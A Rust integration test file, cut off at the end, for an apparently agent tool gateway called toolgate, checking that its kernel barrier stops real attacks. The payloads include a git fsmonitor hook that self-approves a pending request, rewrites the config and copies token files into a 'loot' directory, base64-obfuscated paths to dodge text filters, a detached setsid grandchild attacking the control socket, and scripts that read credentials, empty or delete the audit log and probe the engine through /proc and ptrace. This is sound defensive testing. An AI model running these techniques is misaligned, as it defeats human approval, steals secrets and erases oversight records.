//! Attacks on the barrier (`toolgate::barrier`) with real processes, made
//! the way an attacker would make them. Every payload is one the text
//! checks (`src/guard/protect.rs`) do not see: paths spelled in base64,
//! `t''oolgate`, scripts written first and run later, the control socket
//! found by the attack itself. Where a person must approve an
//! innocent-looking call for the payload to run at all, the test approves
//! it as a person would, on the control socket, so the kernel alone stands
//! in the way. Each confined attack has a control: the same payload with
//! the barrier off (a daemon without a warden, `[barrier] when_unavailable
//! = "run"`, or the payload run by the test itself), which succeeds, so
//! every test here can fail.
//!
//! The daemons are laid out as on a person's machine, inside their temp
//! dir: the config in its own directory (`home/.config/toolgate/`), the
//! data dir `data/`, the sockets in `run/`, the project `root/` beside
//! them.

use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use base64::Engine as _;
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use toolgate::approval::ApprovalRequest;
use toolgate::barrier::credential::Credential;
use toolgate::config::Config;
use toolgate::discovery;
use toolgate::mcp::ServerOptions;

use crate::common::daemon::TestDaemon;
use crate::common::python::python_str;
use crate::common::roles::{Agent, Person, WITHIN, call};
use crate::upstream_support::wait_for;

const TOOLGATE: &str = env!("CARGO_BIN_EXE_toolgate");
/// In the config file only: output holding it read the config.
const MARKER: &str = "config-marker-5b1d0c9e";
const AUTONOMOUS: &str = "[policy]\npreset = \"autonomous\"\n";

const ATTACK_CONTROL_SOCKET: &str = include_str!("fixtures/attack_control_socket.py");
const ATTACK_PROC: &str = include_str!("fixtures/attack_proc.py");
const SHELL_SERVER: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/fixtures/runner_server.py"
);

// ---- the scene: an agent, a person, a daemon --------------------------

/// The text of a call that ran (a person or policy let it: not refused by
/// toolgate, whatever the command's own exit code).
fn ran(reply: &Value) -> String {
    let meta = &reply["result"]["_meta"];
    assert!(
        reply.get("result").is_some() && meta.get("toolgate/error").is_none(),
        "the call ran: {reply}"
    );
    reply["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

/// Whether the daemon confines what it starts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Barrier {
    /// The real warden, strict defaults.
    On,
    /// No warden, `[barrier] when_unavailable = "run"`: the control.
    Off,
}

/// A daemon under attack, its agent and the person who approves.
struct Target {
    d: TestDaemon,
    agent: Agent,
    person: Person,
}

impl Target {
    /// A daemon with `toml` (written to its config file too, with
    /// [`MARKER`]), laid out as the module's doc says.
    async fn start(toml: &str, barrier: Barrier) -> Self {
        let toml = match barrier {
            Barrier::On => toml.to_owned(),
            Barrier::Off => {
                assert!(!toml.contains("[barrier]"), "one [barrier] table");
                format!("{toml}\n[barrier]\nwhen_unavailable = \"run\"\n")
            }
        };
        let file_text = format!("{toml}\n# {MARKER}\n");
        let adjust = move |c: &mut Config, dir: &Path| {
            let file = config_file(dir);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(&file, file_text).unwrap();
            c.path = Some(file);
        };
        let d = match barrier {
            Barrier::On => {
                TestDaemon::start_adjusted(&toml, ServerOptions::default(), adjust).await
            }
            Barrier::Off => TestDaemon::start_unconfined(&toml, adjust).await,
        };
        let confines = d.engine.barrier().status().confines();
        assert_eq!(
            confines,
            barrier == Barrier::On,
            "{:?}",
            d.engine.barrier().status()
        );
        let agent = Agent::connect(&d.socket).await;
        let person = Person::connect(&d.control_socket(), &d.dir.path().join("data")).await;
        Self { d, agent, person }
    }

    fn dir(&self) -> PathBuf {
        std::fs::canonicalize(self.d.dir.path()).unwrap()
    }

    fn data(&self) -> PathBuf {
        self.dir().join("data")
    }

    fn root(&self) -> PathBuf {
        self.dir().join("root")
    }

    fn config_file(&self) -> PathBuf {
        config_file(&self.dir())
    }

    /// The secrets a governed process must never learn, by name.
    fn secrets(&self) -> [(&'static str, String); 3] {
        let credential = Credential::read(&self.data()).unwrap();
        [
            ("the control credential", credential.expose().to_owned()),
            (
                "the console's bearer token",
                self.d.console.bearer().to_owned(),
            ),
            ("the HTTP token", self.d.http.1.clone()),
        ]
    }

    async fn call(&mut self, tool: &str, args: Value) -> Value {
        call(&mut self.agent, &mut self.person, tool, args).await
    }

    /// Runs `command` with `shell_exec` (approved if asked); its text.
    async fn shell(&mut self, command: &str) -> String {
        let r = self
            .call(
                "shell_exec",
                json!({"command": command, "timeout_ms": 30_000}),
            )
            .await;
        ran(&r)
    }

    /// Writes `content` to `path` in the root with `fs_write`.
    async fn write(&mut self, path: &str, content: &str) {
        let r = self
            .call("fs_write", json!({"path": path, "content": content}))
            .await;
        assert_eq!(r["result"]["isError"], false, "{r}");
    }

    /// Sends a call that waits for a person; returns its call id and the
    /// approval request's id.
    async fn ask(&mut self, tool: &str, args: Value) -> (u64, i64) {
        let id = self.agent.send_call(tool, &args).await;
        (id, self.person.request_for(tool, &args).await)
    }

    async fn request(&self, id: i64) -> ApprovalRequest {
        let rows = self
            .d
            .engine
            .approvals()
            .unwrap()
            .recent(1000)
            .await
            .unwrap();
        rows.into_iter().find(|r| r.id == id).expect("the request")
    }

    /// Asserts every decision in the audit was made by this test, as a
    /// person, on the control socket: none by anything the daemon started.
    async fn assert_only_the_person_decided(&self) {
        let me = format!("cli pid {} (", std::process::id());
        let rows = self
            .d
            .engine
            .approvals()
            .unwrap()
            .recent(1000)
            .await
            .unwrap();
        for r in rows {
            if let Some(by) = &r.decided_by {
                assert!(by.starts_with(&me), "request {} decided by {by}", r.id);
            }
        }
    }
}

/// The config file of a daemon in `dir`.
fn config_file(dir: &Path) -> PathBuf {
    dir.join("home/.config/toolgate/config.toml")
}

/// `path` as a shell word no text check can read: decoded from base64 when
/// the command runs.
fn spelled(path: &Path) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(path.as_os_str().as_bytes());
    format!("\"$(printf %s '{b64}' | base64 -d)\"")
}

/// Whether a report's value is a refusal: an errno's name (`EACCES`).
fn refusal(v: &Value) -> bool {
    v.as_str().is_some_and(|s| {
        s.len() > 1 && s.starts_with('E') && s.chars().all(|c| c.is_ascii_uppercase())
    })
}

/// Every file under `dir` whose bytes hold `needle`.
fn files_holding(dir: &Path, needle: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return found;
    };
    for e in entries.flatten() {
        let path = e.path();
        let Ok(kind) = e.file_type() else { continue };
        if kind.is_dir() {
            found.extend(files_holding(&path, needle));
        } else if kind.is_file()
            && std::fs::read(&path)
                .is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle.as_bytes()))
        {
            found.push(path);
        }
    }
    found
}

/// The audit log's call rows, read the way the person would: with SQLite.
fn audit_rows(db: &Path) -> i64 {
    let c = rusqlite::Connection::open(db).unwrap();
    let ok: String = c
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(ok, "ok", "the audit log is intact");
    c.query_row("SELECT count(*) FROM calls", [], |r| r.get(0))
        .unwrap()
}

/// `/proc/<pid>` is gone (not even a zombie is left).
fn gone(pid: i64) -> bool {
    !Path::new(&format!("/proc/{pid}")).exists()
}

/// The session of `/proc/<pid>` (field 6 of its `stat`).
fn session_of(pid: &str) -> i64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let rest = &stat[stat.rfind(')').unwrap() + 2..];
    rest.split(' ').nth(3).unwrap().parse().unwrap()
}

// ---- 1. the git-config chain under `autonomous` -----------------------

/// A git repo with one commit in `root`, as a project is.
fn git_repo(root: &Path) {
    std::fs::write(root.join("README"), "a project\n").unwrap();
    for args in [
        &["init", "-q"][..],
        &["add", "README"],
        &["commit", "-qm", "start"],
    ] {
        let out = std::process::Command::new("git")
            .args(["-c", "user.name=p", "-c", "user.email=p@example.org"])
            .args(["-c", "init.defaultBranch=main"])
            .args(args)
            .current_dir(root)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// The chain: the agent (autonomous, so nobody is asked) writes a
/// `core.fsmonitor` hook into the repo's `.git/`, then runs `git status`,
/// which runs the hook. The hook approves `request` with the real CLI
/// (spelled `tool''gate app''rove`), appends `policy = "allow"` for
/// `shell_exec` to the config file and copies the three token files into
/// the project. Returns what the hook logged of each step.
async fn git_config_chain(t: &mut Target, request: i64) -> String {
    let root = t.root();
    let bin_dir = Path::new(TOOLGATE).parent().unwrap();
    let hook = format!(
        r#"#!/bin/sh
# git runs this for `git status` (core.fsmonitor); each step's outcome goes to chain.log
exec >>'{root}/chain.log' 2>&1
T={dir}
B={bin_dir}/tool''gate
C={config}
D="$T/data"
S=$(ls "$T"/run/*.ctl | sed 's/[.]ctl$//')
"$B" app''rove {request} --socket "$S" --data-dir "$D"
echo "approve: $?"
printf '\n[tools.shell_exec]\npolicy = "allow"\n' >>"$C"
echo "config: $?"
mkdir -p '{root}/loot'
cp "$D/control.token" "$D/console.token" "$S.http" '{root}/loot/'
echo "copy: $?"
exit 1
"#,
        root = root.display(),
        dir = spelled(&t.dir()),
        bin_dir = spelled(bin_dir),
        config = spelled(&t.config_file()),
    );
    t.write(".git/fsmon.sh", &hook).await;
    let r = t
        .call(
            "fs_write",
            json!({"path": ".git/config", "mode": "append",
                   "content": format!("[core]\n\tfsmonitor = sh {}/.git/fsmon.sh\n", root.display())}),
        )
        .await;
    assert_eq!(r["result"]["isError"], false, "{r}");
    t.shell("git status").await;
    std::fs::read_to_string(root.join("chain.log")).expect("git ran the hook")
}

#[tokio::test]
async fn the_git_config_chain_under_autonomous_changes_nothing() {
    let mut t = Target::start(AUTONOMOUS, Barrier::On).await;
    git_repo(&t.root());
    // A critical call of the same agent waits for a person.
    let (waiting, request) = t
        .ask("shell_exec", json!({"command": "rm -rf build-cache"}))
        .await;
    let config = std::fs::read(t.config_file()).unwrap();

    let log = git_config_chain(&mut t, request).await;

    for step in ["approve", "config", "copy"] {
        assert!(
            log.contains(&format!("{step}: ")),
            "{step} was tried: {log}"
        );
        assert!(!log.contains(&format!("{step}: 0")), "{step} failed: {log}");
    }
    let r = t.request(request).await;
    assert_eq!(r.status.as_str(), "pending", "{r:?}");
    assert_eq!(r.decided_by, None);
    assert!(
        t.person.pending().await.iter().any(|p| p["id"] == request),
        "the request still waits for a person"
    );
    assert_eq!(
        std::fs::read(t.config_file()).unwrap(),
        config,
        "the config file is byte-identical"
    );
    for (what, secret) in t.secrets() {
        let found = files_holding(&t.root(), &secret);
        assert!(found.is_empty(), "{what} is in the project: {found:?}");
    }
    t.assert_only_the_person_decided().await;

    t.person.deny(request).await;
    assert_eq!(t.agent.reply(waiting).await["result"]["isError"], true);
    t.d.stop().await;
}

#[tokio::test]
async fn the_git_config_chain_succeeds_without_the_barrier() {
    let mut t = Target::start(AUTONOMOUS, Barrier::Off).await;
    git_repo(&t.root());
    let (waiting, request) = t
        .ask("shell_exec", json!({"command": "rm -rf build-cache"}))
        .await;
    let config = std::fs::read(t.config_file()).unwrap();

    let log = git_config_chain(&mut t, request).await;

    for step in ["approve", "config", "copy"] {
        assert!(log.contains(&format!("{step}: 0")), "{step} worked: {log}");
    }
    let r = t.request(request).await;
    assert_eq!(r.status.as_str(), "approved", "{r:?}");
    let cli = std::fs::canonicalize(TOOLGATE).unwrap();
    assert!(
        r.decided_by
            .as_deref()
            .is_some_and(|by| by.ends_with(&format!("({})", cli.display()))),
        "decided by the CLI the hook ran: {r:?}"
    );
    assert_ne!(std::fs::read(t.config_file()).unwrap(), config);
    for (what, secret) in t.secrets() {
        assert!(
            !files_holding(&t.root().join("loot"), &secret).is_empty(),
            "{what} was copied"
        );
    }
    ran(&t.agent.reply(waiting).await);
    t.d.stop().await;
}

// ---- 2. a detached grandchild on the control socket -------------------

/// Runs the control-socket attack as a detached grandchild of a
/// `shell_exec` (`setsid` and a double fork); the command waits on a FIFO
/// until the attack has written its report, then returns while the attack
/// stays on. Returns the report.
async fn detached_attack(t: &mut Target, request: i64) -> Value {
    t.write("attack.py", ATTACK_CONTROL_SOCKET).await;
    let command = format!(
        "mkfifo released && setsid sh -c '({py} attack.py report.json released {request} &) &' \
         && read line < released && echo \"$line\"",
        py = python_str()
    );
    let text = t.shell(&command).await;
    assert!(text.contains("reported"), "{text}");
    let report = std::fs::read_to_string(t.root().join("report.json")).unwrap();
    serde_json::from_str(&report).unwrap()
}

/// The same attack run by the test itself, outside any warden: it reads
/// the credential and approves `request`.
async fn unconfined_attack(t: &mut Target, request: i64) -> Value {
    let run = tokio::process::Command::new(python_str())
        .arg("attack.py")
        .arg("report-unconfined.json")
        .arg("-")
        .arg(request.to_string())
        .current_dir(t.root())
        .output();
    let out = tokio::time::timeout(WITHIN, run).await.unwrap().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = std::fs::read_to_string(t.root().join("report-unconfined.json")).unwrap();
    serde_json::from_str(&report).unwrap()
}

/// What every variant asserts: the attack found the control socket and
/// the credential's file and could not read it; the request still waits;
/// the attack did not outlive its call. Returns the socket's steps.
async fn assert_detached_attack_failed(t: &mut Target, request: i64, report: &Value) -> Value {
    let ctl = t.d.control_socket();
    let steps = report["sockets"][ctl.to_str().unwrap()].clone();
    assert!(steps.is_object(), "it found the control socket: {report:#}");
    let token = t.data().join("control.token");
    assert!(
        refusal(&report["tokens"][token.to_str().unwrap()]),
        "the credential is out of reach: {report:#}"
    );
    for (path, got) in report["tokens"].as_object().unwrap() {
        assert!(refusal(got), "{path} was read: {report:#}");
    }
    assert_ne!(
        report["sid"],
        session_of("self"),
        "it left our session: {report:#}"
    );
    let pid = report["pid"].as_i64().unwrap();
    if !gone(pid) {
        // Say what a survivor achieves: it tries again once it has been
        // orphaned past its warden.
        let later = t.root().join("report.json.later");
        let _ = wait_for(Duration::from_secs(20), "the survivor's second try", || {
            later.exists()
        })
        .await;
        let seen = std::fs::read_to_string(&later).unwrap_or_else(|_| "nothing".into());
        if let Some(p) = rustix::process::Pid::from_raw(pid as i32) {
            let _ = rustix::process::kill_process(p, rustix::process::Signal::KILL);
        }
        panic!(
            "the detached attack {pid} outlived its call; once its warden was gone it tried the control socket again and got: {seen}"
        );
    }
    assert_eq!(t.request(request).await.status.as_str(), "pending");
    t.assert_only_the_person_decided().await;
    steps
}

async fn assert_the_unconfined_attack_approves(t: &mut Target, request: i64, waiting: u64) {
    let report = unconfined_attack(t, request).await;
    let ctl = t.d.control_socket();
    let steps = &report["sockets"][ctl.to_str().unwrap()];
    assert!(
        steps["auth"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["result"]["authenticated"] == true),
        "{report:#}"
    );
    assert_eq!(
        steps["approve"]["result"]["request"]["status"], "approved",
        "{report:#}"
    );
    assert_eq!(t.request(request).await.status.as_str(), "approved");
    ran(&t.agent.reply(waiting).await);
}

#[tokio::test]
async fn a_detached_grandchild_cannot_even_create_a_unix_socket() {
    let mut t = Target::start(AUTONOMOUS, Barrier::On).await;
    let (waiting, request) = t
        .ask("shell_exec", json!({"command": "rm -rf build-cache"}))
        .await;
    let report = detached_attack(&mut t, request).await;
    let steps = assert_detached_attack_failed(&mut t, request, &report).await;
    assert_eq!(steps["socket"], "EPERM", "seccomp: {report:#}");
    assert!(steps.get("connect").is_none(), "{report:#}");
    // The control: the same script outside the warden approves.
    assert_the_unconfined_attack_approves(&mut t, request, waiting).await;
    t.d.stop().await;
}

#[tokio::test]
async fn a_detached_grandchild_with_unix_sockets_is_refused_as_governed() {
    let toml = format!("{AUTONOMOUS}\n[barrier]\nunix_sockets = true\n");
    let mut t = Target::start(&toml, Barrier::On).await;
    let (waiting, request) = t
        .ask("shell_exec", json!({"command": "rm -rf build-cache"}))
        .await;
    let report = detached_attack(&mut t, request).await;
    let steps = assert_detached_attack_failed(&mut t, request, &report).await;
    assert_eq!(steps["socket"], "ok", "{report:#}");
    assert_eq!(steps["connect"], "ok", "{report:#}");
    // It had no credential to present, and a wrong one would get an
    // answer; a governed peer gets none: the connection is dropped.
    let auth = steps["auth"].as_array().unwrap();
    assert!(!auth.is_empty(), "{report:#}");
    for answer in auth.iter().chain([&steps["approve"]]) {
        assert!(
            ["closed", "ECONNRESET", "EPIPE"].contains(&answer.as_str().unwrap_or("")),
            "no answer but a closed connection: {report:#}"
        );
    }
    assert_the_unconfined_attack_approves(&mut t, request, waiting).await;
    t.d.stop().await;
}

// ---- 3. a tool reading and writing every file of toolgate's ----------

/// Reads everything in the data, config and runtime dirs, every way.
fn read_everything(t: &Target) -> String {
    format!(
        r#"T={dir}; C={config_dir}; D="$T/data"
cat "$D/control.token" "$D/console.token" "$T"/run/*.http "$C/config.toml"
for d in "$D" "$C" "$T/run"; do
  echo "== walk"; find "$d" -type f -exec cat {{}} +
  for f in "$d"/* "$d"/.*; do cat "$f"; done
done
sqlite3 "$D/audit.db" .dump; echo "sqlite3: $?"
{py} -c 'import sqlite3, sys; print(sqlite3.connect(sys.argv[1]).execute("select * from approval_requests").fetchall())' "$D/audit.db"; echo "python: $?"
exit 0"#,
        dir = spelled(&t.dir()),
        config_dir = spelled(t.config_file().parent().unwrap()),
        py = python_str(),
    )
}

/// Changes everything in the data and config dirs, every way; each
/// step's exit code follows its name.
fn write_everything(t: &Target) -> String {
    format!(
        r#"T={dir}; C={config_dir}; D="$T/data"
touch "$D/planted"; echo "touch: $?"
(: > "$D/audit.db"); echo "redirect: $?"
truncate -s 0 "$D/audit.db"; echo "truncate: $?"
mv "$D/audit.db" "$D/moved.db"; echo "mv-within: $?"
echo x > dropped.txt; mv dropped.txt "$D/"; echo "mv-into: $?"
mkdir -p "$C/plugins/x" && printf '[plugin]\nname = "x"\n' > "$C/plugins/x/plugin.toml"; echo "plugin: $?"
printf '\n[tools.shell_exec]\npolicy = "allow"\n' >> "$C/config.toml"; echo "config: $?"
rm "$D/audit.db"; echo "rm: $?""#,
        dir = spelled(&t.dir()),
        config_dir = spelled(t.config_file().parent().unwrap()),
    )
}

const WRITES: [&str; 8] = [
    "touch",
    "redirect",
    "truncate",
    "mv-within",
    "mv-into",
    "plugin",
    "config",
    "rm",
];

#[tokio::test]
async fn a_tool_reading_and_writing_every_file_of_toolgates_gets_nothing() {
    let mut t = Target::start(AUTONOMOUS, Barrier::On).await;
    t.write("notes.txt", "some work first").await;
    let db = t.data().join("audit.db");
    wait_for(WITHIN, "a row in the audit log", || audit_rows(&db) > 0)
        .await
        .unwrap();
    let (rows, inode) = (audit_rows(&db), std::fs::metadata(&db).unwrap().ino());
    let config = std::fs::read(t.config_file()).unwrap();

    let out = t.shell(&read_everything(&t)).await;
    assert!(out.contains("== walk"), "{out}");
    assert!(out.contains("Permission denied"), "{out}");
    for (what, secret) in t.secrets() {
        assert!(!out.contains(&secret), "{what} leaked: {out}");
    }
    assert!(!out.contains("login?t="), "a login link leaked: {out}");
    assert!(!out.contains(MARKER), "the config leaked: {out}");

    let out = t.shell(&write_everything(&t)).await;
    for step in WRITES {
        assert!(
            out.contains(&format!("{step}: ")),
            "{step} was tried: {out}"
        );
        assert!(!out.contains(&format!("{step}: 0")), "{step} failed: {out}");
    }
    let data = t.data();
    for left in ["planted", "moved.db", "dropped.txt"] {
        assert!(!data.join(left).exists(), "{left} is in the data dir");
    }
    let plugins = t.config_file().parent().unwrap().join("plugins");
    assert!(!plugins.exists(), "a plugin was planted");
    assert_eq!(std::fs::read(t.config_file()).unwrap(), config);
    assert_eq!(
        std::fs::metadata(&db).unwrap().ino(),
        inode,
        "the same file"
    );
    assert!(audit_rows(&db) >= rows, "no row was lost");
    t.assert_only_the_person_decided().await;
    t.d.stop().await;
}

#[tokio::test]
async fn reading_and_writing_every_file_of_toolgates_works_without_the_barrier() {
    let mut t = Target::start(AUTONOMOUS, Barrier::Off).await;
    let out = t.shell(&read_everything(&t)).await;
    for (what, secret) in t.secrets() {
        assert!(out.contains(&secret), "{what} is read: {out}");
    }
    assert!(out.contains(MARKER), "the config is read: {out}");
    let out = t.shell(&write_everything(&t)).await;
    for step in [
        "touch",
        "truncate",
        "mv-within",
        "mv-into",
        "plugin",
        "config",
    ] {
        assert!(out.contains(&format!("{step}: 0")), "{step} worked: {out}");
    }
    assert!(t.data().join("planted").exists());
    let plugin = t
        .config_file()
        .parent()
        .unwrap()
        .join("plugins/x/plugin.toml");
    assert!(plugin.exists());
    t.d.stop().await;
}

// ---- 4. engine.log after `mcp-bridge --spawn` -------------------------

/// SIGTERMs a spawned engine (not our child) when dropped, if the test
/// ends early.
struct Reap(Option<u32>);

impl Drop for Reap {
    fn drop(&mut self) {
        if let Some(p) = self
            .0
            .and_then(|p| rustix::process::Pid::from_raw(p as i32))
        {
            let _ = rustix::process::kill_process(p, rustix::process::Signal::TERM);
        }
    }
}

fn zombie(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| s.rsplit_once(") ").map(|(_, rest)| rest.starts_with('Z')))
        .unwrap_or(false)
}

#[tokio::test]
async fn a_spawned_engines_log_holds_no_login_link_and_is_out_of_reach() {
    let dir = tempfile::tempdir().unwrap();
    let dir_path = std::fs::canonicalize(dir.path()).unwrap();
    let (data, root) = (dir_path.join("data"), dir_path.join("root"));
    std::fs::create_dir_all(&root).unwrap();
    let config = config_file(&dir_path);
    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
    std::fs::write(&config, AUTONOMOUS).unwrap();
    let mut bridge = tokio::process::Command::new(TOOLGATE)
        .args(["mcp-bridge", "--spawn", "--data-dir"])
        .arg(&data)
        .arg("--socket")
        .arg(dir_path.join("run/agent.sock"))
        .arg("--config")
        .arg(&config)
        .arg("--root")
        .arg(&root)
        .env_remove("TOOLGATE_SOCKET")
        .env_remove("TOOLGATE_DATA_DIR")
        .env_remove("TOOLGATE_CONFIG")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    // The engine is up once it answers through the bridge.
    let init = json!({"jsonrpc": "2.0", "id": 0, "method": "initialize",
        "params": {"protocolVersion": "2025-11-25", "capabilities": {},
                   "clientInfo": {"name": "attack", "version": "1"}}});
    let mut stdin = bridge.stdin.take().unwrap();
    stdin
        .write_all(format!("{init}\n").as_bytes())
        .await
        .unwrap();
    let mut lines = BufReader::new(bridge.stdout.take().unwrap()).lines();
    let first = tokio::time::timeout(WITHIN, lines.next_line())
        .await
        .expect("the spawned engine answers")
        .unwrap()
        .unwrap_or_default();
    assert!(first.contains("\"result\""), "{first}");
    let engine = discovery::read(&data).unwrap().expect("engine.json");
    let mut reap = Reap(Some(engine.pid));
    drop((stdin, lines, bridge));

    let log = data.join("engine.log");
    let last = if engine.console.is_some() {
        "console:"
    } else {
        "discovery file:"
    };
    wait_for(WITHIN, "the engine's ready lines", || {
        std::fs::read_to_string(&log).is_ok_and(|l| l.contains(last))
    })
    .await
    .unwrap();
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.contains("serving MCP on unix:"), "{text}");
    assert!(
        !text.contains("login?t="),
        "a login link in engine.log: {text}"
    );

    let command = format!("cat {}; echo \"cat: $?\"", spelled(&log));
    let mut agent = Agent::connect(&engine.agent_socket).await;
    let mut person = Person::connect(&engine.control_socket, &data).await;
    let r = call(
        &mut agent,
        &mut person,
        "shell_exec",
        json!({"command": command}),
    )
    .await;
    let out = ran(&r);
    assert!(!out.contains("serving MCP"), "engine.log was read: {out}");
    assert!(out.contains("Permission denied"), "{out}");
    assert!(!out.contains("cat: 0"), "{out}");
    // The control: the same command, run by the test itself, reads it.
    let direct = std::process::Command::new("sh")
        .args(["-c", &command])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&direct.stdout).contains("serving MCP"));

    drop((agent, person));
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(engine.pid as i32).unwrap(),
        rustix::process::Signal::TERM,
    )
    .unwrap();
    wait_for(WITHIN, "the spawned engine to stop", || {
        !discovery::file(&data).exists()
            && (!discovery::pid_alive(engine.pid) || zombie(engine.pid))
    })
    .await
    .unwrap();
    reap.0 = None;
}

// ---- 5. hard-link truncation ------------------------------------------

/// Links the audit log into the project, then empties the link.
fn link_and_truncate(t: &Target) -> String {
    format!(
        r#"D={data}
ln "$D/audit.db" notes.db; echo "ln: $?"
(: > notes.db); echo "emptied: $?"
ln -s "$D/audit.db" link.db; (: > link.db); echo "symlink: $?""#,
        data = spelled(&t.data()),
    )
}

#[tokio::test]
async fn a_hard_link_to_the_audit_log_cannot_be_made_to_empty_it() {
    let mut t = Target::start(AUTONOMOUS, Barrier::On).await;
    t.write("notes.txt", "some work first").await;
    let db = t.data().join("audit.db");
    wait_for(WITHIN, "a row in the audit log", || audit_rows(&db) > 0)
        .await
        .unwrap();
    let rows = audit_rows(&db);
    let out = t.shell(&link_and_truncate(&t)).await;
    assert!(out.contains("ln: ") && !out.contains("ln: 0"), "{out}");
    assert!(
        out.contains("symlink: ") && !out.contains("symlink: 0"),
        "{out}"
    );
    let meta = std::fs::metadata(&db).unwrap();
    assert_eq!(meta.nlink(), 1, "the audit log has no second name");
    assert!(meta.len() > 0);
    let notes = std::fs::metadata(t.root().join("notes.db")).unwrap();
    assert_ne!(notes.ino(), meta.ino());
    assert!(audit_rows(&db) >= rows, "no row was lost");
    t.d.stop().await;
}

#[tokio::test]
async fn a_hard_link_to_the_audit_log_empties_it_without_the_barrier() {
    let mut t = Target::start(AUTONOMOUS, Barrier::Off).await;
    let out = t.shell(&link_and_truncate(&t)).await;
    assert!(out.contains("ln: 0"), "{out}");
    let db = std::fs::metadata(t.data().join("audit.db")).unwrap();
    let notes = std::fs::metadata(t.root().join("notes.db")).unwrap();
    assert_eq!(notes.ino(), db.ino(), "the project holds the audit log");
    t.d.stop().await;
}

// ---- 6. /proc, ptrace and signals of the engine -----------------------

async fn proc_attack(t: &mut Target, ptrace: bool) -> Value {
    t.write("attack_proc.py", ATTACK_PROC).await;
    let command = format!(
        "ATTACK_PTRACE={} {} attack_proc.py proc.json",
        u8::from(ptrace),
        python_str()
    );
    t.shell(&command).await;
    let report = std::fs::read_to_string(t.root().join("proc.json")).unwrap();
    let report: Value = serde_json::from_str(&report).unwrap();
    assert_eq!(
        report["engine"],
        std::process::id(),
        "it found the engine: {report:#}"
    );
    report
}

#[tokio::test]
async fn a_governed_process_cannot_look_into_trace_or_signal_the_engine() {
    let mut t = Target::start(AUTONOMOUS, Barrier::On).await;
    let report = proc_attack(&mut t, true).await;
    for key in ["mem", "root", "cwd", "ptrace"] {
        assert!(refusal(&report[key]), "{key}: {report:#}");
    }
    let links = report["fd_links"].as_object().unwrap();
    assert!(!links.is_empty(), "{report:#}");
    for key in ["fd_links", "fd_opens", "fd_copies"] {
        for (fd, got) in report[key].as_object().unwrap() {
            assert!(refusal(got), "{key} {fd}: {report:#}");
        }
    }
    assert!(
        refusal(&report["pidfd_open"]) || !report["fd_copies"].as_object().unwrap().is_empty(),
        "pidfd_getfd was tried: {report:#}"
    );
    let abi = t.d.engine.barrier().status().landlock_abi.unwrap_or(0);
    if abi >= toolgate::barrier::status::SCOPES_ABI {
        assert!(refusal(&report["kill0"]), "signals are scoped: {report:#}");
    }
    // Checked last, being the weaker: reads the kernel allows in
    // PTRACE_MODE_READ. Where mm_access() lets a caller with CAP_PERFMON
    // or CAP_SYS_ADMIN read any process's memory map and environment
    // (Linux 6.18 does), a governed process holding them (toolgate run as
    // root) reads these whatever Landlock says; this fails then.
    for key in ["environ", "maps"] {
        assert!(refusal(&report[key]), "{key}: {report:#}");
    }
    t.d.stop().await;
}

#[tokio::test]
async fn without_the_barrier_the_engine_is_open_to_its_tools() {
    let mut t = Target::start(AUTONOMOUS, Barrier::Off).await;
    // No ptrace: the engine is this test.
    let report = proc_attack(&mut t, false).await;
    assert!(
        report["environ"].as_u64().is_some_and(|n| n > 0),
        "{report:#}"
    );
    assert_eq!(report["mem"], "opened", "{report:#}");
    assert_eq!(report["kill0"], "ok", "{report:#}");
    let copies = report["fd_copies"].as_object().unwrap();
    assert!(copies.values().any(|v| v == "ok"), "{report:#}");
    t.d.stop().await;
}

// ---- 7. a stdio upstream server ---------------------------------------

fn runner_server_toml() -> String {
    format!(
        "{AUTONOMOUS}\n[[servers]]\nname = \"up\"\ntransport = \"stdio\"\ncommand = {:?}\nargs = [{:?}]\n",
        python_str(),
        SHELL_SERVER
    )
}

/// Asks the upstream server's tool to read the credential and write into
/// the data dir; returns the tool's text.
async fn through_the_server(t: &mut Target) -> String {
    let engine = t.d.engine.clone();
    wait_for(WITHIN, "the server's tool", || {
        engine.tools().iter().any(|d| d.name.as_str() == "up__sh")
    })
    .await
    .unwrap();
    let command = format!(
        r#"D={data}; cat "$D/control.token"; s=$?; echo; echo "read: $s"; echo planted > "$D/planted"; echo "write: $?""#,
        data = spelled(&t.data())
    );
    let r = t.call("up__sh", json!({"command": command})).await;
    let out = ran(&r);
    assert!(out.contains("read: ") && out.contains("write: "), "{out}");
    out
}

#[tokio::test]
async fn a_stdio_upstream_server_is_confined_too() {
    let mut t = Target::start(&runner_server_toml(), Barrier::On).await;
    let out = through_the_server(&mut t).await;
    let [(_, credential), ..] = t.secrets();
    assert!(!out.contains(&credential), "{out}");
    assert!(
        !out.contains("read: 0") && !out.contains("write: 0"),
        "{out}"
    );
    assert!(out.contains("Permission denied"), "{out}");
    assert!(!t.data().join("planted").exists());
    t.d.stop().await;
}

#[tokio::test]
async fn a_stdio_upstream_server_without_the_barrier_reads_and_writes_toolgates_files() {
    let mut t = Target::start(&runner_server_toml(), Barrier::Off).await;
    let out = through_the_server(&mut t).await;
